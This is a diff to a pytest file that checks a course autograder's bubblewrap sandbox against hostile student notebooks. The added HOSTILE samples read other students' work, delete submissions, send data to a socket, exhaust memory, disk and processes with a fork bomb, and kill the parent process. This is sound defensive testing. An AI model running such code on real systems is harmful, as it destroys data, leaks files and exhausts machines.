@@ -1,21 +1,29 @@
-"""A mixed batch (right, wrong, tampered, faulty) graded by `make autograde`'s own code.
+"""A mixed batch (right, wrong, tampered, faulty, hostile) graded by `make autograde`'s own code.
 
-The expected scores are read from the table in docs/grading.md, so the documentation
-is what is tested. Also: the same submission autograded five times gets the same grade.
+`make autograde WORKERS=2`: two submissions at a time, each kernel in the bubblewrap sandbox.
+The expected scores are read from the tables in docs/grading.md, so the documentation
+is what is tested. The hostile submissions attack the grader (its files, the gradebook, the
+network, memory, processes, the disk, time, its own process); each must stay contained, with
+the error the documentation names, while every other file of the course stays byte-identical.
+Also: the same submission autograded five times gets the same grade.
 """
 
 from __future__ import annotations
 
 import contextlib
+import hashlib
 import io
 import re
 import shutil
+import socket
+import subprocess
 
 import nbformat
 import pytest
 
 import grading_batch
 from vae_helpers import course
+from vae_helpers.grading import sandbox
 
 pytestmark = pytest.mark.slow  # runs notebooks in kernels: left out of `make quick`
 
@@ -64,6 +72,26 @@ def reparameterize(mu, logvar):
 '''
 
 
+# Code that attacks the grader, run before score_function_gradient's answer (so its error leaves
+# score_function_gradient undefined: 6 / 11), and the error it must end with. COURSE is the class
+# course's folder and PORT a port the test listens on: the attacker is assumed to know both.
+HOSTILE = {
+    "reads-others": ('print(open(COURSE + "/submitted/correct/02_reparameterization/02_reparameterization.ipynb")'
+                     '.read())', "FileNotFoundError"),
+    "vandal": ('import shutil\n\nopen(COURSE + "/gradebook.db", "ab").write(b"graded by me")\n'
+               'shutil.rmtree(COURSE + "/submitted")', "FileNotFoundError"),
+    "phones-home": ('import socket\n\nsocket.create_connection(("127.0.0.1", PORT), timeout=10).sendall(b"answers")',
+                    "ConnectionRefusedError"),
+    "memory-hog": ("hog = []\nwhile True:\n    hog.append(bytearray(256 * 1024**2))", "MemoryError"),
+    "fork-bomb": ('import subprocess\n\nchildren = [subprocess.Popen(["sleep", "654"]) for _ in range(100_000)]',
+                  "BlockingIOError"),
+    "disk-filler": ('import itertools\n\nfor i in itertools.count():\n    with open(f"/tmp/fill-{i}", "wb") as f:\n'
+                    '        f.write(bytes(64 * 1024**2))', "OSError"),
+    "sleeps-forever": ("import time\n\ntime.sleep(10**9)", "CellTimeoutError"),
+    "kills-parent": ("import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)", "PermissionError"),
+}
+
+
 def documented_scores() -> dict[str, str]:
     """{student: score text} from the mixed-batch table of docs/grading.md."""
     text = (grading_batch.ROOT / "docs" / "grading.md").read_text()
@@ -72,8 +100,9 @@ def documented_scores() -> dict[str, str]:
     return dict(rows)
 
 
-def mixed_batch(released) -> dict[str, nbformat.NotebookNode | str]:
-    """The mixed batch of docs/grading.md: {student: submitted notebook, or the text of a broken file}."""
+def mixed_batch(released, course_dir=None, port=0) -> dict[str, nbformat.NotebookNode | str]:
+    """The mixed batch of docs/grading.md: {student: submitted notebook, or the text of a broken file};
+    the hostile ones aim at the class course in ``course_dir`` and at ``port``."""
     solution = grading_batch.solution_notebook(released, ASSIGNMENT)
     source = {c.id: c.source for c in solution.cells}
     blank = nbformat.read(released / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
@@ -116,29 +145,49 @@ def mixed_batch(released) -> dict[str, nbformat.NotebookNode | str]:
         "huge-allocation": answer("big = torch.empty(10**13)\n\n" + source["score-function"], "score-function"),
         "early-exception": answer('raise ValueError("not finished")\n\n' + source["reparameterize"]),
         "garbled": nbformat.writes(solution)[:500],  # a file cut short in the upload
+        **{student: answer(f"COURSE, PORT = {str(course_dir)!r}, {port}\n{code}\n\n" + source["score-function"],
+                           "score-function") for student, (code, _) in HOSTILE.items()},
     }
+
+
+def fingerprints(folder) -> dict[str, str]:
+    """sha256 of every file under ``folder``, by relative path."""
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
 
 
 @pytest.fixture(scope="module")
 def class_graded(released, tmp_path_factory):
-    """The mixed batch submitted to a copy of the released course and graded as `make autograde` does.
+    """The mixed batch submitted to a copy of the released course and graded as `make autograde
+    WORKERS=2` does, with a listener on a local port for the hostile ones to call.
 
-    Returns (course directory, what it printed, its exit status).
+    Returns (course directory, what it printed, its exit status, the course's files before grading
+    {path: sha256}, the connections the listener received).
     """
+    if (why := sandbox.unavailable()) is not None:
+        pytest.skip(why)
     course_dir = tmp_path_factory.mktemp("mixed") / "course"
     shutil.copytree(released, course_dir)
     with open(course_dir / "nbgrader_config.py", "a") as f:
         # The course allows 600 s; the test need not wait that long for the infinite loop. Honest
         # cells of 02 take about 1 s, so 60 s holds on a loaded machine too.
         f.write("\nc.Execute.timeout = 60\n")
-    for student, nb in mixed_batch(released).items():
-        target = course_dir / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
-        target.parent.mkdir(parents=True)
-        target.write_text(nb if isinstance(nb, str) else nbformat.writes(nb))
-    printed = io.StringIO()
-    with contextlib.redirect_stdout(printed):  # what `make autograde` runs
-        status = course.main(["autograde", "--root", str(course_dir)])
-    return course_dir, printed.getvalue(), status
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        listener.setblocking(False)
+        for student, nb in mixed_batch(released, course_dir, listener.getsockname()[1]).items():
+            target = course_dir / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+            target.parent.mkdir(parents=True)
+            target.write_text(nb if isinstance(nb, str) else nbformat.writes(nb))
+        before = fingerprints(course_dir)
+        printed = io.StringIO()
+        with contextlib.redirect_stdout(printed):  # what `make autograde WORKERS=2 AUTOGRADE_ARGS="--memory 2"` runs
+            status = course.main(["autograde", "--root", str(course_dir), "--workers", "2", "--memory", "2"])
+        calls = []
+        with contextlib.suppress(BlockingIOError):
+            calls.append(listener.accept())
+    return course_dir, printed.getvalue(), status, before, calls
 
 
 def test_the_documented_batch_is_the_tested_batch(released):
@@ -146,7 +195,7 @@ def test_the_documented_batch_is_the_tested_batch(released):
 
 
 def test_every_submission_gets_its_documented_score(class_graded):
-    course_dir, printed, _ = class_graded
+    course_dir, printed, *_ = class_graded
     measured = {}
     with course.gradebook(course_dir) as gb:
         for student in documented_scores():
@@ -157,13 +206,14 @@ def test_every_submission_gets_its_documented_score(class_graded):
 
 
 def test_make_autograde_reports_the_dropped_submission_and_grades_the_rest(class_graded):
-    _, printed, status = class_graded
+    _, printed, status, *_ = class_graded
     assert status == 1  # a dropped submission makes `make autograde` exit with status 1
     assert re.search(r"^!! kernel-crash/02_reparameterization: nbgrader dropped this submission "
                      r"\(.*DeadKernelError.*killed the Python kernel.*\); the others are graded\.$", printed, re.M)
     assert re.search(r"^!! garbled/02_reparameterization: nbgrader dropped this submission "
                      r"\(.*NotJSONError.*not a readable notebook.*\); the others are graded\.$", printed, re.M)
-    assert "Graded 16 of 18 submission(s)" in printed
+    assert f"Graded {len(documented_scores()) - 2} of {len(documented_scores())} submission(s)" in printed
+    assert "Sandbox: on (memory 2 GiB, 256 processes" in printed
     assert "Dropped by nbgrader, not graded: garbled/02_reparameterization, kernel-crash/02_reparameterization" \
         in printed
     for student, score in documented_scores().items():
@@ -172,27 +222,50 @@ def test_make_autograde_reports_the_dropped_submission_and_grades_the_rest(class
 
 
 def test_tampering_is_flagged_for_review_and_honest_work_is_not(class_graded):
-    _, printed, _ = class_graded
+    _, printed, *_ = class_graded
     flagged = dict(re.findall(r"^   review ([\w-]+)/02_reparameterization: its code (.*)$", printed, re.M))
     assert set(flagged) == {"redefines-checks", "patches-checks", "always-equal", "patches-allclose",
-                            "kernel-crash"}, printed
+                            "kernel-crash", "kills-parent"}, printed
     assert "defines check_reparameterize_basics" in flagged["redefines-checks"]
     assert "assigns to vae_helpers.checks.check_reparameterize_basics" in flagged["patches-checks"]
     assert "assigns to torch.allclose" in flagged["patches-allclose"]
     assert "AlwaysEqual defines __eq__" in flagged["always-equal"]
     assert "os._exit" in flagged["kernel-crash"]
+    assert "os.kill" in flagged["kills-parent"]
+
+
+def errors_of(course_dir, student) -> dict[str, str]:
+    """{cell id: "ename: evalue"} of the errors in ``student``'s autograded notebook."""
+    nb = nbformat.read(course_dir / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+    return {c.id: f"{o.ename}: {o.evalue}" for c in nb.cells if c.cell_type == "code"
+            for o in c.outputs if o.output_type == "error"}
+
+
+def test_every_hostile_submission_is_stopped_where_docs_grading_says(class_graded):
+    course_dir, *_ = class_graded
+    stopped = {student: errors_of(course_dir, student).get("score-function", "no error") for student in HOSTILE}
+    assert {s: e.split(":")[0] for s, e in stopped.items()} == {s: e for s, (_, e) in HOSTILE.items()}, stopped
+    assert "No space left on device" in stopped["disk-filler"]
+
+
+def test_hostile_submissions_change_no_file_and_reach_no_one(class_graded):
+    """Every file of the course as it was before grading is byte-identical after it (grading adds
+    autograded/, feedback material and reports, and writes grades through the gradebook's one
+    writer); the listener got no call; no process the fork bomb started outlives its kernel."""
+    course_dir, _, _, before, calls = class_graded
+    after = fingerprints(course_dir)
+    changed = sorted(path for path, digest in before.items() if after.get(path) != digest and path != "gradebook.db")
+    assert changed == []
+    assert calls == []
+    leftovers = subprocess.run(["pgrep", "-f", "sleep 654"], capture_output=True, text=True).stdout.split()
+    assert leftovers == []
 
 
 def test_tampered_checks_say_why_they_refuse(class_graded):
-    course_dir, _, _ = class_graded
+    course_dir, *_ = class_graded
 
-    def errors(student):
-        nb = nbformat.read(course_dir / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
-        return {c.id: o.evalue for c in nb.cells if c.cell_type == "code"
-                for o in c.outputs if o.output_type == "error"}
-
-    assert "This notebook replaced torch.allclose" in errors("patches-allclose")[VISIBLE]
-    assert "subclass of torch.Tensor" in errors("always-equal")[VISIBLE]
+    assert "This notebook replaced torch.allclose" in errors_of(course_dir, "patches-allclose")[VISIBLE]
+    assert "subclass of torch.Tensor" in errors_of(course_dir, "always-equal")[VISIBLE]
     restored = nbformat.read(course_dir / "autograded" / "deletes-test" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
                              as_version=4)
     assert any("was missing from the submission" in c.source for c in restored.cells)
@@ -216,3 +289,29 @@ def test_the_same_submission_autograded_five_times_gets_the_same_grade_and_feedb
         runs.append({cell: (r.score, r.error, r.text) for cell, r in outcome.cells.items()})
     assert 0 < sum(score for score, _, _ in runs[0].values()) < 11
     assert all(run == runs[0] for run in runs[1:])
+
+
+def test_without_bubblewrap_make_autograde_refuses_unless_the_sandbox_is_turned_off(released, tmp_path, monkeypatch):
+    """No bwrap: `make autograde` grades nothing and says how to install it; `SANDBOX=off` grades,
+    and its summary says student code ran unconfined."""
+    course_dir = tmp_path / "course"
+    shutil.copytree(released, course_dir)
+    blank = course_dir / "submitted" / "blank" / ASSIGNMENT
+    blank.mkdir(parents=True)
+    shutil.copy(released / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", blank)
+    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
+    printed = io.StringIO()
+    with contextlib.redirect_stdout(printed):
+        status = course.main(["autograde", "--root", str(course_dir)])
+    assert status == 1
+    assert "refuses to run student code unconfined" in printed.getvalue()
+    assert "apt-get install bubblewrap" in printed.getvalue() and "SANDBOX=off" in printed.getvalue()
+    assert not (course_dir / "autograded").exists()
+    printed = io.StringIO()
+    with contextlib.redirect_stdout(printed):
+        status = course.main(["autograde", "--root", str(course_dir), "--sandbox", "off"])
+    assert status == 0, printed.getvalue()
+    assert "blank/02_reparameterization: 0 / 11" in printed.getvalue()
+    assert "Sandbox: OFF (SANDBOX=off): student code ran with your rights" in printed.getvalue()
+    report = next((course_dir / "autograde-reports").iterdir()).read_text()
+    assert "Sandbox: OFF" in report and "blank/02_reparameterization: 0 / 11" in report
